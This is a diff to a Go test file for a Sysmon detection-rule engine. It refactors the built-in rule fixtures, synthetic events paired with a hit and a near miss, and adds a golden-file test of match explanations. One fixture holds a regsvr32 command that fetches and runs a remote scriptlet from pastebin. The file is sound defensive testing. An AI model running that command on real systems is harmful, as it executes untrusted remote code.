@@ -1,9 +1,12 @@
 package rules
 
 import (
+	"encoding/json"
 	"fmt"
 	"strings"
 	"testing"
+
+	"github.com/evtriage/evtriage/internal/golden"
 )
 
 // TestModifiers checks every modifier with a value that must match and one
@@ -448,42 +451,7 @@ func TestBuiltinPack(t *testing.T) {
 			}
 		}
 	}
-	const sys32 = `C:\Windows\System32\regsvr32.exe`
-	cases := []struct {
-		id        string
-		hit, miss *mapEvent
-	}{
-		{"ce2c44b5-a6ac-412a-afba-9e89326fa972",
-			sysmon(1, "Image", sys32, "CommandLine", `regsvr32 /s C:\Users\x\a.dll`, "CurrentDirectory", `C:\Users\x\`),
-			sysmon(1, "Image", sys32, "CommandLine", `regsvr32 /s C:\Users\x\a.dll`, "CurrentDirectory", `C:\Windows\System32\`)},
-		{"e23771a3-d2bc-4535-9b97-ab6769c1a38d",
-			sysmon(1, "ParentImage", sys32, "Image", `C:\Windows\System32\cmd.exe`),
-			sysmon(1, "ParentImage", sys32, "Image", `C:\Windows\SysWOW64\regsvr32.exe`)},
-		{"bc399179-15fa-4ca9-a55b-d46b526bf897",
-			sysmon(1, "ParentImage", sys32, "Image", `C:\Windows\System32\calc.exe`),
-			sysmon(1, "ParentImage", sys32, "Image", `C:\Windows\SysWOW64\WerFault.exe`)},
-		{"8537fa9f-c8d8-4530-81bc-1b4db643e582",
-			sysmon(7, "Image", sys32, "Signed", "false", "ImageLoaded", `C:\Users\x\evil.dll`),
-			sysmon(7, "Image", sys32, "Signed", "false", "ImageLoaded", `C:\Program Files\x\ok.dll`)},
-		{"d066e7dc-810d-43c5-83bd-87e7aec84af1",
-			sysmon(1, "Image", `C:\Users\x\svc.exe`, "OriginalFileName", "REGSVR32.EXE"),
-			sysmon(1, "Image", sys32, "OriginalFileName", "REGSVR32.EXE", "Description", "Microsoft(C) Register Server")},
-		{"35e28c74-a52c-43f5-baef-adcdf26451b0",
-			sysmon(1, "Image", sys32, "CommandLine", "regsvr32.exe /u /s /i:http://pastebin.com/raw/x scrobj.dll"),
-			sysmon(1, "Image", sys32, "CommandLine", `regsvr32.exe /u /s /i:C:\x.sct scrobj.dll`)},
-		{"f1de6d41-26b5-4f8d-b611-04c55787228a",
-			sysmon(3, "Image", sys32, "DestinationIp", "104.20.1.1"),
-			sysmon(3, "Image", sys32, "DestinationIp", "127.0.0.1")},
-		{"bcd2bc95-e56b-4fc5-9e73-4dc9831160ca",
-			sysmon(22, "Image", sys32, "QueryName", "pastebin.com"),
-			sysmon(22, "Image", `C:\Windows\System32\svchost.exe`, "QueryName", "pastebin.com")},
-		{"81960f9d-0547-4252-b859-4f76c9aa195a",
-			sysmon(1, "Image", sys32, "ParentImage", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`),
-			sysmon(1, "Image", sys32, "ParentImage", `C:\Windows\explorer.exe`)},
-		{"0f58a7c3-42e9-4b87-aa21-e78a0b368adc",
-			sysmon(1, "Image", sys32, "CommandLine", `regsvr32 C:\Users\bob\AppData\Local\Temp\x.dll`),
-			sysmon(1, "Image", sys32, "CommandLine", `regsvr32 C:\Program Files\App\x.dll`)},
-	}
+	cases := builtinCases()
 	for _, tc := range cases {
 		t.Run(tc.id, func(t *testing.T) {
 			r := ids[tc.id]
@@ -502,6 +470,7 @@ func TestBuiltinPack(t *testing.T) {
 		t.Errorf("pack has %d rules, tests cover %d", len(ids), len(cases))
 	}
 	// The CAR exclusions are separate, switchable filter identifiers.
+	const sys32 = `C:\Windows\System32\regsvr32.exe`
 	car := ids["bc399179-15fa-4ca9-a55b-d46b526bf897"]
 	wer := sysmon(1, "ParentImage", sys32, "Image", `C:\Windows\System32\WerFault.exe`)
 	if ok, _ := car.Eval(wer, func(id string) bool { return id == "filter_car_werfault" }); !ok {
@@ -577,4 +546,74 @@ func TestHostileRules(t *testing.T) {
 	if len(s.Rejected()) != 1 || !strings.Contains(s.Rejected()[0].Reason, "nested too deeply") {
 		t.Errorf("deep condition: %+v", s.Rejected())
 	}
+}
+
+type builtinCase struct {
+	id        string
+	hit, miss *mapEvent
+}
+
+// builtinCases gives each built-in rule a true positive and a near miss.
+func builtinCases() []builtinCase {
+	const sys32 = `C:\Windows\System32\regsvr32.exe`
+	return []builtinCase{
+		{"ce2c44b5-a6ac-412a-afba-9e89326fa972",
+			sysmon(1, "Image", sys32, "CommandLine", `regsvr32 /s C:\Users\x\a.dll`, "CurrentDirectory", `C:\Users\x\`),
+			sysmon(1, "Image", sys32, "CommandLine", `regsvr32 /s C:\Users\x\a.dll`, "CurrentDirectory", `C:\Windows\System32\`)},
+		{"e23771a3-d2bc-4535-9b97-ab6769c1a38d",
+			sysmon(1, "ParentImage", sys32, "Image", `C:\Windows\System32\cmd.exe`),
+			sysmon(1, "ParentImage", sys32, "Image", `C:\Windows\SysWOW64\regsvr32.exe`)},
+		{"bc399179-15fa-4ca9-a55b-d46b526bf897",
+			sysmon(1, "ParentImage", sys32, "Image", `C:\Windows\System32\calc.exe`),
+			sysmon(1, "ParentImage", sys32, "Image", `C:\Windows\SysWOW64\WerFault.exe`)},
+		{"8537fa9f-c8d8-4530-81bc-1b4db643e582",
+			sysmon(7, "Image", sys32, "Signed", "false", "ImageLoaded", `C:\Users\x\evil.dll`),
+			sysmon(7, "Image", sys32, "Signed", "false", "ImageLoaded", `C:\Program Files\x\ok.dll`)},
+		{"d066e7dc-810d-43c5-83bd-87e7aec84af1",
+			sysmon(1, "Image", `C:\Users\x\svc.exe`, "OriginalFileName", "REGSVR32.EXE"),
+			sysmon(1, "Image", sys32, "OriginalFileName", "REGSVR32.EXE", "Description", "Microsoft(C) Register Server")},
+		{"35e28c74-a52c-43f5-baef-adcdf26451b0",
+			sysmon(1, "Image", sys32, "CommandLine", "regsvr32.exe /u /s /i:http://pastebin.com/raw/x scrobj.dll"),
+			sysmon(1, "Image", sys32, "CommandLine", `regsvr32.exe /u /s /i:C:\x.sct scrobj.dll`)},
+		{"f1de6d41-26b5-4f8d-b611-04c55787228a",
+			sysmon(3, "Image", sys32, "DestinationIp", "104.20.1.1"),
+			sysmon(3, "Image", sys32, "DestinationIp", "127.0.0.1")},
+		{"bcd2bc95-e56b-4fc5-9e73-4dc9831160ca",
+			sysmon(22, "Image", sys32, "QueryName", "pastebin.com"),
+			sysmon(22, "Image", `C:\Windows\System32\svchost.exe`, "QueryName", "pastebin.com")},
+		{"81960f9d-0547-4252-b859-4f76c9aa195a",
+			sysmon(1, "Image", sys32, "ParentImage", `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`),
+			sysmon(1, "Image", sys32, "ParentImage", `C:\Windows\explorer.exe`)},
+		{"0f58a7c3-42e9-4b87-aa21-e78a0b368adc",
+			sysmon(1, "Image", sys32, "CommandLine", `regsvr32 C:\Users\bob\AppData\Local\Temp\x.dll`),
+			sysmon(1, "Image", sys32, "CommandLine", `regsvr32 C:\Program Files\App\x.dll`)},
+	}
+}
+
+// TestBuiltinExplanations pins what each built-in rule reports for its
+// true positive and near miss (matches, details, suppressed filters).
+func TestBuiltinExplanations(t *testing.T) {
+	s := Load(LoadOptions{})
+	type out struct {
+		Case       string        `json:"case"`
+		Rule       string        `json:"rule"`
+		Details    []MatchDetail `json:"details"`
+		Suppressed []string      `json:"suppressed"`
+	}
+	var all []out
+	for _, tc := range builtinCases() {
+		for _, ev := range []struct {
+			name string
+			ev   *mapEvent
+		}{{"hit", tc.hit}, {"miss", tc.miss}} {
+			for _, m := range s.Candidates(ev.ev, nil) {
+				all = append(all, out{Case: tc.id + " " + ev.name, Rule: m.Rule.ID, Details: m.Details, Suppressed: m.Suppressed})
+			}
+		}
+	}
+	data, err := json.MarshalIndent(all, "", "  ")
+	if err != nil {
+		t.Fatal(err)
+	}
+	golden.Assert(t, "builtin_explain.json", append(data, '\n'))
 }
